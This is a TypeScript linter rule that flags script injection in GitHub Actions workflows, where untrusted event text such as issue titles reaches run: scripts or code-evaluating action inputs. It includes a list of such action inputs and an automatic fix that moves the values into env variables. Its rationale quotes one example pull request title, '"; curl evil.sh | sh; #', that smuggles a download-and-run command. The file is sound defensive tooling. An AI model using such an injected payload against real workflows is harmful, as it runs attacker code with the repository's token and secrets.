import { ruleMeta } from '../../rule';
import { Scalar } from 'yaml';
import { workflowRule, expressionsIn, untrustedIn, contextPaths, stepName, parseUses, exposure, Step, Workflow, Expr } from './workflow';
import type { YView } from '../../yaml/nodes';
import type { FixDef, OffsetEdit } from '../../types';

/** Shell quoting state at `upTo` in a POSIX shell script: '' (unquoted), "'" or '"'. */
export function shellQuoteAt(script: string, upTo: number): '' | "'" | '"' {
  let q: '' | "'" | '"' = '';
  for (let i = 0; i < upTo && i < script.length; i++) {
    const c = script[i];
    if (q === "'") { if (c === "'") q = ''; continue; }
    if (c === '\\') { i++; continue; }
    if (q === '"') { if (c === '"') q = ''; continue; }
    if (c === "'" || c === '"') q = c;
    else if (c === '#' && (i === 0 || /\s/.test(script[i - 1]))) { while (i < upTo && script[i] !== '\n') i++; }
  }
  return q;
}

export function envName(path: string): string {
  const p = path.replace(/^github\.event\./, '').replace(/^github\./, '').replace(/pull_request/g, 'pr').replace(/\.\*\./g, '.');
  return p.replace(/[^A-Za-z0-9]+/g, '_').replace(/^_|_$/g, '').toUpperCase() || 'VALUE';
}

function shellOf(wf: Workflow, s: Step): string | undefined {
  return s.view.get('shell').str ?? s.job.view.at('defaults', 'run', 'shell').str ?? wf.root.at('defaults', 'run', 'shell').str;
}

/** The "move every untrusted expression of this step into env:" fix, or undefined when it cannot be done safely. */
function envFix(wf: Workflow, s: Step, exprs: Found[], text: string): FixDef | undefined {
  const shell = shellOf(wf, s);
  const runsOn = JSON.stringify(s.job.view.get('runs-on').toJS() ?? '');
  if (shell ? !/^(bash|sh)\b/.test(shell) : /windows/i.test(runsOn)) return undefined;
  const node = s.run.node as Scalar;
  if (node.type !== Scalar.BLOCK_LITERAL && node.type !== Scalar.PLAIN) return undefined;
  const [rs] = s.run.loc;
  const bodyStart = node.type === Scalar.BLOCK_LITERAL ? text.indexOf('\n', rs) + 1 : rs;
  const script = text.slice(bodyStart, s.run.loc[1]);
  const env = s.view.get('env');
  const existing = new Map(env.entries().map(([k, v]) => [k, v.str ?? '']));
  const names = new Map<string, string>();
  const edits: OffsetEdit[] = [];
  const added: string[] = [];
  for (const { e, path, envVar } of exprs) {
    let name = envVar ?? names.get(e.text);
    if (!name) {
      const base = envName(path);
      name = base;
      for (let k = 2; existing.has(name) && existing.get(name) !== e.text; k++) name = `${base}_${k}`;
      names.set(e.text, name);
      if (!existing.has(name)) { added.push(`${name}: ${e.text}`); existing.set(name, e.text); }
    }
    const q = shellQuoteAt(script, e.start - bodyStart);
    if (q === "'" && text[e.start - 1] === "'" && text[e.end] === "'") edits.push({ start: e.start - 1, end: e.end + 1, newText: `"$${name}"` }); // '${{ x }}' -> "$X"
    else edits.push({ start: e.start, end: e.end, newText: q === '"' ? `\${${name}}` : q === "'" ? `'"$${name}"'` : `"$${name}"` });
  }
  if (added.length) {
    const runKey = s.run.keyLoc;
    if (!runKey) return undefined;
    const col = runKey[0] - (text.lastIndexOf('\n', runKey[0] - 1) + 1);
    const eol = /\r\n/.test(text) ? '\r\n' : '\n';
    if (env.isMap) {
      const entries = env.entries();
      const raw = text.slice(env.loc[0], env.loc[1]);
      if (raw.startsWith('{') || !entries.length) return undefined;
      const first = entries[0][1].keyLoc!;
      const ind = first[0] - (text.lastIndexOf('\n', first[0] - 1) + 1);
      const last = entries[entries.length - 1][1];
      if (text.slice(last.loc[0], last.loc[1]).includes('\n')) return undefined;
      let lineEnd = text.indexOf('\n', last.loc[1]);
      if (lineEnd < 0) lineEnd = text.length; else if (text[lineEnd - 1] === '\r') lineEnd--;
      edits.push({ start: lineEnd, end: lineEnd, newText: added.map((a) => eol + ' '.repeat(ind) + a).join('') });
    } else if (!env.exists) {
      edits.push({ start: runKey[0], end: runKey[0], newText: 'env:' + added.map((a) => eol + ' '.repeat(col + 2) + a).join('') + eol + ' '.repeat(col) });
    } else return undefined;
  }
  return { title: 'Move untrusted expressions into env: variables', applicability: 'safe', edits };
}

/** An untrusted expression of a sink: its context path, and for `${{ env.X }}` the variable X already in the environment. */
interface Found { e: Expr; path: string; envVar?: string; via?: string; severity?: 'info' }

/**
 * Inputs of actions that evaluate their value as code (CodeQL's injection sinks, as zizmor lists
 * them, plus zizmor's own additions): action (lower case, without ref) -> input names.
 */
export const CODE_SINKS: Record<string, string[]> = {
  '8398a7/action-slack': ['custom_payload'], 'actions/github-script': ['script'], 'appleboy/ssh-action': ['script'],
  'azure/cli': ['inlinescript'], 'azure/powershell': ['inlinescript'], 'devorbitus/yq-action-output': ['cmd'],
  'gautamkrishnar/blog-post-workflow': ['item_exec'], 'imjohnbo/issue-bot': ['body', 'linked-comments-previous-issue-text', 'linked-comments-new-issue-text'],
  'lucasbento/auto-close-issues': ['issue-close-message'], 'mikefarah/yq': ['cmd'], 'roots/issue-closer-action': ['issue-close-message', 'pr-close-message'],
  'sergeysova/jq-action': ['cmd'], 'skitionek/notify-microsoft-teams': ['overwrite'], 'tibdex/backport': ['body_template', 'head_template', 'labels_template', 'title_template'],
  'amadevus/pwsh-script': ['script'], 'jannekem/run-python-script-action': ['script'], 'cardinalby/js-eval-action': ['expression'], 'addnab/docker-run-action': ['options', 'run'],
};

/** The code sinks of a step: its `run:` script, or the `with:` inputs an action evaluates as code. */
function sinksOf(s: Step): { v: YView; input?: string }[] {
  if (s.run.isScalar) return [{ v: s.run }];
  const p = s.uses ? parseUses(s.uses) : undefined;
  const names = p ? CODE_SINKS[p.action.toLowerCase()] : undefined;
  if (!names) return [];
  return s.view.get('with').entries().filter(([k, v]) => v.isScalar && names.includes(k.toLowerCase())).map(([k, v]) => ({ v, input: k }));
}

/**
 * The expression an environment variable holds where step `s` runs (step env over job env over
 * workflow env), when it is a string containing `${{ }}`.
 */
function envValue(wf: Workflow, s: Step, name: string): { v: YView; where: string } | undefined {
  const levels: [YView, string][] = [[s.view.get('env'), 'step env'], [s.job.view.get('env'), `job '${s.job.id}' env`], [wf.root.get('env'), 'workflow env']];
  for (const [env, where] of levels) {
    if (!env.isMap) continue;
    const hit = env.entries().find(([k]) => k.toLowerCase() === name.toLowerCase());
    if (hit) return { v: hit[1], where };
  }
  return undefined;
}

export default workflowRule(
  ruleMeta({
    id: 'GHA002', name: 'gha-script-injection', title: 'Untrusted input expanded into a script (template injection)', severity: 'error', language: 'github-actions',
    peers: ['zizmor:template-injection', 'actionlint:expression'],
    docs: {
      description: 'A `run:` script, or an action input that is evaluated as code (`actions/github-script` `script:`, `azure/cli` `inlineScript:`, `mikefarah/yq` `cmd:` and the other sinks CodeQL and zizmor list), contains `${{ }}` reading attacker-controlled context such as `github.event.issue.title`, `github.event.pull_request.body`, `github.event.comment.body`, `github.head_ref`, `toJSON(github.event)` (actionlint\'s list of untrusted inputs, also through indexes such as `github.event.commits[0].message` and nested expressions), or `${{ env.X }}` where `X` is set from such context at step, job or workflow level. In a composite action, `${{ inputs.X }}` is reported as information: the caller decides what it holds. The error level is for workflows on a trigger that runs with the base repository\'s token and secrets on events anyone can cause (`pull_request_target`, `workflow_run`, `issue_comment`, `issues`, `discussion`); on other triggers the finding is a warning.',
      rationale: 'Expressions are substituted into the script text before the shell (or JavaScript, PowerShell, Python) runs it. A pull request titled `"; curl evil.sh | sh; #` becomes code executed with the workflow\'s token and secrets. Moving the value into an environment variable at job level does not help when the script reads it back with `${{ env.X }}`: that is expanded into the script text just the same.',
      remediation: 'Pass the value through an environment variable and reference it quoted as a shell variable: `env: TITLE: ${{ github.event.issue.title }}` and `run: echo "$TITLE"` (in JavaScript, `process.env.TITLE`). The quick fix does this for `run:` scripts in bash/sh, and turns `${{ env.X }}` into `"$X"`.',
      example: {
        bad: '- run: echo "${{ github.event.issue.title }}"\n',
        good: '- env:\n    ISSUE_TITLE: ${{ github.event.issue.title }}\n  run: echo "${ISSUE_TITLE}"\n',
      },
    },
    fix: 'safe',
  }),
  (wf, ctx) => {
    const { severity, why } = exposure(wf);
    for (const j of wf.jobs) {
      for (const s of j.steps) {
        for (const { v: script, input } of sinksOf(s)) {
          const found: Found[] = [];
          for (const e of expressionsIn(script, ctx.text)) {
            const u = untrustedIn(e.inner);
            if (u.length) { found.push({ e, path: u.join(', ') }); continue; }
            // ${{ env.X }} where X holds an untrusted expression
            let hit: Found | undefined;
            for (const c of contextPaths(e.inner)) {
              const m = /^env\.([a-z_][a-z0-9_]*)$/.exec(c.path);
              if (m) {
                const def = envValue(wf, s, m[1]);
                const bad = def ? expressionsIn(def.v, ctx.text).flatMap((x) => untrustedIn(x.inner)) : [];
                if (def && bad.length) {
                  const name = def.v.keyLoc ? ctx.text.slice(def.v.keyLoc[0], def.v.keyLoc[1]) : m[1];
                  const plain = /^[A-Za-z_][A-Za-z0-9_]*$/.test(name) && e.inner.toLowerCase() === `env.${name.toLowerCase()}`;
                  hit = { e, path: `env.${name}`, via: `${bad.join(', ')} (set in ${def.where})`, envVar: plain ? name : undefined };
                  break;
                }
              }
              if (wf.kind === 'action' && /^inputs\.[a-z0-9_-]+$/.test(c.path)) hit = { e, path: c.path, severity: 'info' };
            }
            if (hit) found.push(hit);
          }
          if (!found.length) continue;
          const where = input ? `the ${input} input of ${s.uses?.split('@')[0]}, which evaluates it as code,` : 'the shell script';
          const fix = !input ? envFix(wf, s, found, ctx.text) : undefined;
          for (const f of found) {
            const how = input ? 'via process.env or the language\'s own environment access' : 'quoted ("$VAR")';
            const what = f.via ? `${f.path} holds ${f.via}, attacker-controlled, and` : f.severity === 'info' ? `${f.path} is whatever the calling workflow passes (possibly attacker-controlled) and` : `${f.path} is attacker-controlled and`;
            ctx.report({
              loc: [f.e.start, f.e.end],
              message: `${stepName(s)}: ${what} is pasted into ${where} before it runs (script injection); ${f.severity === 'info' ? 'exploitable when a caller passes attacker-controlled text' : why}; pass it through an env: variable and reference that ${how}.`,
              fixes: fix ? [fix] : [],
              severity: f.severity ?? (severity === 'error' ? undefined : severity),
            });
          }
        }
      }
    }
  },
);
